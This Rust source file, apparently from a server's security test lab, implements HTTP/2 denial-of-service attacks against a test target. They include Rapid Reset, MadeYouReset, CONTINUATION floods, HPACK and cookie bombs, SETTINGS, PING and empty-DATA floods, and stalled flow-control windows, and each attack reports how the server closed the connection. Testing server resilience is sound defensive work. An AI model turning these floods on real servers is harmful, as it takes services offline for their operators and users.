//! Attacks with frames of HTTP/2.

use std::io;
use std::thread;
use std::time::Duration;

use lab_testkit::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, GO_AWAY, HEADERS, PING, RESET, SETTINGS,
    WINDOW, field, frame, head, length,
};

use super::attack::AttackEnd;
use super::target::SecureTarget;

/// Requests of a flood that are sent at once.
const AT_ONCE: u32 = 50;
/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW: u16 = 4;
/// Streams of one connection that wait for a window.
const STALLED: u32 = 100;

fn open(target: &SecureTarget, settings: &[(u16, u32)]) -> io::Result<Frames> {
    Frames::open(target.connect(b"h2")?, settings)
}

/// The error with which the server ends the connection.
fn end(frames: &mut Frames) -> io::Result<AttackEnd> {
    let mut end = AttackEnd::Closed;
    while let Some(frame) = frames.receive()? {
        if frame.kind == GO_AWAY {
            end = AttackEnd::GoAway(frame.error().unwrap_or_default());
        }
    }
    Ok(end)
}

/// Sends what `fill` makes of the numbers of `count` streams, which is more than the server takes,
/// and waits for the end. Far more would be no attack on the server, which reads a little further
/// so that its last frame arrives.
fn flood(
    frames: &mut Frames,
    count: u32,
    fill: impl Fn(u32, &mut Vec<u8>),
) -> io::Result<AttackEnd> {
    for first in (0..count).step_by(AT_ONCE as usize) {
        let mut bytes = Vec::new();
        for number in first..count.min(first + AT_ONCE) {
            fill(1 + 2 * number, &mut bytes);
        }
        if frames.write(&bytes).is_err() {
            break;
        }
    }
    end(frames)
}

fn request(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head("GET", "/"))
}

/// CVE-2023-44487.
pub(super) fn rapid_reset(target: &SecureTarget) -> io::Result<AttackEnd> {
    flood(&mut open(target, &[])?, 1000, |stream, bytes| {
        bytes.extend(request(stream));
        bytes.extend(frame(RESET, 0, stream, &[0, 0, 0, 8]));
    })
}

/// CVE-2025-8671: a window of 2^31 bytes is an error for which the server resets the stream.
pub(super) fn made_you_reset(target: &SecureTarget) -> io::Result<AttackEnd> {
    let settings = [(INITIAL_WINDOW, 1)];
    flood(&mut open(target, &settings)?, 1000, |stream, bytes| {
        bytes.extend(request(stream));
        bytes.extend(frame(WINDOW, 0, stream, &0x7fff_ffff_u32.to_be_bytes()));
    })
}

/// CVE-2024-27316.
pub(super) fn continuations(target: &SecureTarget) -> io::Result<AttackEnd> {
    let mut frames = open(target, &[])?;
    frames.send(HEADERS, END_STREAM, 1, &head("GET", "/"))?;
    flood(&mut frames, 200, |_, bytes| {
        let mut block = Vec::new();
        field(&mut block, b"a", &[b'v'; 1000]);
        bytes.extend(frame(CONTINUATION, 0, 1, &block));
    })
}

/// One byte of a block means 4,000, again and again.
pub(super) fn hpack_bomb(target: &SecureTarget) -> io::Result<AttackEnd> {
    flood(&mut open(target, &[])?, 4, |stream, bytes| {
        let mut block = head("GET", "/");
        block.extend([0x40, 1, b'x']);
        length(&mut block, 4000);
        block.extend([b'v'; 4000]);
        block.extend([0xbe; 10_000]);
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
    })
}

/// Repeats cookies by one byte of a block each, which a server joins to one field.
pub(super) fn cookie_bomb(target: &SecureTarget) -> io::Result<AttackEnd> {
    flood(&mut open(target, &[])?, 4, |stream, bytes| {
        let mut block = head("GET", "/");
        // `cookie` is entry 32 of the static table.
        block.push(0x60);
        length(&mut block, 4000);
        block.extend([b'c'; 4000]);
        block.extend([0xbe; 10_000]);
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
    })
}

pub(super) fn settings_flood(target: &SecureTarget) -> io::Result<AttackEnd> {
    flood(&mut open(target, &[])?, 2500, |_, bytes| {
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
    })
}

pub(super) fn ping_flood(target: &SecureTarget) -> io::Result<AttackEnd> {
    flood(&mut open(target, &[])?, 2500, |_, bytes| {
        bytes.extend(frame(PING, 0, 0, b"12345678"));
    })
}

pub(super) fn empty_data(target: &SecureTarget) -> io::Result<AttackEnd> {
    let mut frames = open(target, &[])?;
    frames.send(HEADERS, END_HEADERS, 1, &head("POST", "/"))?;
    flood(&mut frames, 4000, |_, bytes| {
        bytes.extend(frame(DATA, 0, 1, &[]));
    })
}

/// HEADERS without END_HEADERS, and nothing more.
pub(super) fn open_head(target: &SecureTarget) -> io::Result<AttackEnd> {
    let mut frames = open(target, &[])?;
    let mut block = head("GET", "/");
    field(&mut block, b"a", &[b'v'; 15_000]);
    frames.send(HEADERS, 0, 1, &block)?;
    end(&mut frames)
}

/// Large responses whose windows never open.
pub(super) fn stalled_streams(target: &SecureTarget) -> io::Result<AttackEnd> {
    let mut frames = open(target, &[(INITIAL_WINDOW, 0)])?;
    ask_for_much(&mut frames)?;
    until_reset(&mut frames)
}

/// Asks for large responses, and opens their windows byte by byte.
pub(super) fn dripping_windows(target: &SecureTarget) -> io::Result<AttackEnd> {
    let mut frames = open(target, &[(INITIAL_WINDOW, 1)])?;
    ask_for_much(&mut frames)?;
    let mut drips = Vec::new();
    for stream in streams() {
        drips.extend(frame(WINDOW, 0, stream, &1_u32.to_be_bytes()));
    }
    for _ in 0..10 {
        thread::sleep(Duration::from_millis(100));
        if frames.write(&drips).is_err() {
            break;
        }
    }
    until_reset(&mut frames)
}

fn streams() -> impl Iterator<Item = u32> {
    (0..STALLED).map(|number| 1 + 2 * number)
}

fn ask_for_much(frames: &mut Frames) -> io::Result<()> {
    streams().try_for_each(|stream| frames.get(stream, "/big.bin"))
}

/// Waits until the server has reset all streams.
fn until_reset(frames: &mut Frames) -> io::Result<AttackEnd> {
    let mut left = STALLED;
    let mut end = AttackEnd::Closed;
    while left > 0
        && let Some(frame) = frames.receive()?
    {
        match (frame.kind, frame.error()) {
            (RESET, Some(error)) => {
                left -= 1;
                end = AttackEnd::Reset(error);
            }
            (GO_AWAY, Some(error)) => return Ok(AttackEnd::GoAway(error)),
            _ => {}
        }
    }
    Ok(end)
}
